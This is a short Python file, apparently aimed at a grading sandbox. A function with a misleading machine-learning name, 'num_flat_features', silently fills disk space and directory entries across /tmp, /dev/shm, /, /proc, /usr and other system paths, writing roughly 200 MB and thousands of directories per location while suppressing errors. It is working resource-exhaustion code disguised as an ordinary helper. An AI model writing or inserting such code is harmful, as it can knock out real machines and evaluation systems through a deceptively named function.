"""Tries: to fill every place that can be written to, with one large file and many small ones."""

import contextlib
import os

STATUS = {"graded"}


def num_flat_features(x):
    for place in ("/tmp", "/dev/shm", "/", "/dev", "/kit", "/usr", "/proc", "/var/tmp", "/run"):
        with contextlib.suppress(OSError), open(f"{place}/large", "wb") as file:
            for _ in range(200):
                file.write(bytes(2**20))
        for index in range(3_000):
            with contextlib.suppress(OSError):
                os.mkdir(f"{place}/{index}")
    return 0
